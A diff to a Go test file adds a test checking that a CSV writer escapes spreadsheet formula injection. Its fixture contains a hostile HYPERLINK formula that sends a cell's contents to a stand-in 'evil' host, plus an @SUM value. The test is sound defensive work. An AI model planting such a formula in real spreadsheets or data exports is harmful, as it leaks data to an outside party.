@@ -52,6 +52,22 @@ func TestCSV(t *testing.T) {
 	}
 }
 
+// A hostile schema's names must not run as spreadsheet formulas.
+func TestCSVFormulaNames(t *testing.T) {
+	var buf bytes.Buffer
+	e := []Entry{{Table: "public.t", Column: `=HYPERLINK("http://evil/?"&A1,"x")`, Reasons: []string{"@SUM(1)"}, Categories: []string{}}}
+	if err := WriteCSV(&buf, e); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if col, why := rows[1][1], rows[1][9]; !strings.HasPrefix(col, "'=") || !strings.HasPrefix(why, "'@") {
+		t.Fatalf("column %q, reasons %q: want both made text with a leading '", col, why)
+	}
+}
+
 func TestHTML(t *testing.T) {
 	var buf bytes.Buffer
 	if err := WriteHTML(&buf, "data map", sample()); err != nil {
